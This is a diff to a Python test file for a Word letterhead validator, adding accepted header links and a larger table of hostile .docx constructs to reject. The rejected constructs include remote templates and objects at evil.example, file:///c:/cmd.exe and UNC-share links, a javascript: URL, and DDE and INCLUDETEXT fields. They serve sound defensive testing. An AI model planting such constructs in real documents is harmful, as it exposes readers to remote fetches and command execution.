@@ -116,12 +116,48 @@ def test_our_own_file_can_be_the_letterhead() -> None:
     assert not [name for name, part in word.parts.items() if b"of the old report" in part]
 
 
-def external(kind: str) -> bytes:
+def external(kind: str, target: str = "https://evil.example/x", mode: str = "External") -> bytes:
     line = (
         '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        f'{kind}" Target="https://evil.example/x" TargetMode="External"/></Relationships>'
+        f'{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
     )
     return replaced(RELATED, b"</Relationships>", line.encode())
+
+
+R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+
+
+def headed(element: str, kind: str = "hyperlink", target: str = "https://port.example/") -> bytes:
+    """A header with an element that names, as rId1, something outside the file."""
+    relationships = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    content = replaced("word/header1.xml", b"</w:p>", f"{element}</w:p>".encode())
+    return changed(content, **{"word/_rels/header1.xml.rels": relationships.encode()})
+
+
+def whole_field(instruction: str) -> str:
+    def char(kind: str) -> str:
+        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+    told = "".join(
+        char("begin") + f"<w:r><w:instrText>{words}</w:instrText></w:r>" for words in instruction.split("{")
+    )
+    return told + char("end") * (instruction.count("{") + 1)
+
+
+LINK = f'<w:hyperlink {R} r:id="rId1"><w:r><w:t>port.example</w:t></w:r></w:hyperlink>'
+INNOCENT = {
+    "a web address": headed(LINK),
+    "a mail address": headed(LINK, target="mailto:port@port.example"),
+    "a picture to click on": headed(
+        f'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:id="rId1"/>'
+    ),
+    "a field with an address": headed(whole_field(' HYPERLINK "https://port.example/ask" \\o "Ask" ')),
+    "a page number": headed(whole_field(" PAGE ")),
+}
 
 
 def field(instruction: str) -> bytes:
@@ -174,7 +210,29 @@ ABUSES = {
     "an embedded object": (changed(institution(), **{"word/embeddings/x.docx": b"0"}), ACTIVE),
     "a remote template": (external("attachedTemplate"), OUTSIDE),
     "a remote picture": (external("image"), OUTSIDE),
-    "a link": (external("hyperlink"), OUTSIDE),
+    "a remote part of a document": (external("subDocument"), OUTSIDE),
+    "a remote frame": (external("frame"), OUTSIDE),
+    "a remote object": (external("oleObject"), OUTSIDE),
+    "an address on the reader's own disk": (external("hyperlink", "file:///c:/cmd.exe"), OUTSIDE),
+    "an address on a server of files": (external("hyperlink", "\\\\evil\\share"), OUTSIDE),
+    "an address that is a script": (external("hyperlink", "javascript:alert(1)"), OUTSIDE),
+    "a picture that calls itself a link": (
+        headed(
+            f'<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:link="rId1"/>'
+        ),
+        OUTSIDE,
+    ),
+    "a part of a document that calls itself a link": (headed(f'<w:subDoc {R} r:id="rId1"/>'), OUTSIDE),
+    "a drawing with a picture by its address": (
+        headed('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/x.png"/>'),
+        OUTSIDE,
+    ),
+    "a page of the web within": (external("aFChunk", "/word/x.html", "Internal"), ACTIVE),
+    "a field with an address in which another fetches": (
+        headed(whole_field(' HYPERLINK "https://{ INCLUDEPICTURE evil.example" ')),
+        ACTIVE,
+    ),
+    "a field with an address of a file": (headed(whole_field(' HYPERLINK "file:///c:/cmd.exe" ')), ACTIVE),
     "a field that fetches": (field(' INCLUDETEXT "\\\\\\\\evil\\\\x" '), ACTIVE),
     "a field that runs": (field(" D D E AUTO c:\\cmd.exe "), ACTIVE),
     "entities": (replaced(MAIN, b"<w:document", ENTITIES + b"<w:document"), NOT_WORD),
@@ -214,6 +272,14 @@ def test_a_file_without_its_text_is_no_letterhead() -> None:
 
 def test_a_plain_one_is_not() -> None:
     judge_letterhead(institution())
+
+
+@pytest.mark.parametrize("named", INNOCENT)
+def test_an_address_to_click_on_is_no_harm_and_stays(named: str) -> None:
+    written = parts_of(render_docx(meeting("en"), Choices(letterhead=INNOCENT[named])))
+    judge_letterhead(INNOCENT[named])
+    if "address" in named:
+        assert b"port.example" in b"".join(part for name, part in written.items() if "header1" in name)
 
 
 def test_a_file_without_any_set_up_is_paper_too() -> None:
